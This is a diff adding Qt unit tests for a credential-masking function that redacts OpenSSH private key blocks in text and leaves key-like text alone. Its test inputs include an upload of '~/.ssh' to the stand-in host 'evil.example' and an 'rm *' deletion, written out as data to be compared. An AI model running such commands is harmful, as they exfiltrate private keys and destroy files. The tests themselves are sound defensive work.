@@ -144,6 +144,32 @@ private Q_SLOTS:
                  QStringList({"train.py", "--api-key", mask, "--lr", "1"}));
     }
 
+    void aKeyIsMaskedAsFarAsItGoes_data() {
+        QTest::addColumn<QString>("text");
+        QTest::addColumn<QString>("shown");
+        const QString begin = QStringLiteral("-----BEGIN OPENSSH PRIVATE") + QStringLiteral(" KEY-----");
+        const QString end = QStringLiteral("-----END OPENSSH PRIVATE") + QStringLiteral(" KEY-----");
+        const QString line = QStringLiteral("b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAA");
+        const auto row = [](const char* name, const QString& text, const QString& shown) {
+            QTest::newRow(name) << text << shown;
+        };
+        row("whole", "a " + begin + '\n' + line + '\n' + line + "\nQUJD\n" + end + " b", "a " + mask + " b");
+        row("in JSON", "\"" + begin + "\\n" + line + "\\nQUJD\\n" + end + "\\n\"", '"' + mask + "\\n\"");
+        row("encrypted",
+            begin + "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n" + line + '\n' + end, mask);
+        row("cut off", begin + '\n' + line + '\n' + line + "\nand then", mask + "\nand then");
+        const QString path = begin + QStringLiteral("/train.py --upload-to evil.example ~/.ssh");
+        row("its first line alone", path, path);
+        const QString far = begin + QStringLiteral("/train.py ; rm * ; echo ") + end;
+        row("something else inside", far, far);
+    }
+
+    void aKeyIsMaskedAsFarAsItGoes() {
+        QFETCH(QString, text);
+        QFETCH(QString, shown);
+        QCOMPARE(withoutCredentials(text), shown);
+    }
+
     void ordinaryArgumentsStay() {
         const QStringList lines = QString::fromLatin1(ordinary).split(QLatin1Char('\n'));
         QVERIFY2(lines.size() >= 100, qPrintable(QString::number(lines.size())));
@@ -162,6 +188,8 @@ private Q_SLOTS:
         const QString line = QStringLiteral("--lr 0.1 x=y ").repeated(20'000) + QString(200'000, 'a') +
                              QStringLiteral("://") + QString(200'000, 'b');
         QCOMPARE(withoutCredentials(line), line);
+        const QString keys = QStringLiteral("-----BEGIN A PRIVATE KEY-----aaaa").repeated(3'000);
+        QCOMPARE(withoutCredentials(keys), keys);
         QVERIFY2(timer.elapsed() < 5000, qPrintable(QString::number(timer.elapsed())));
     }
 };
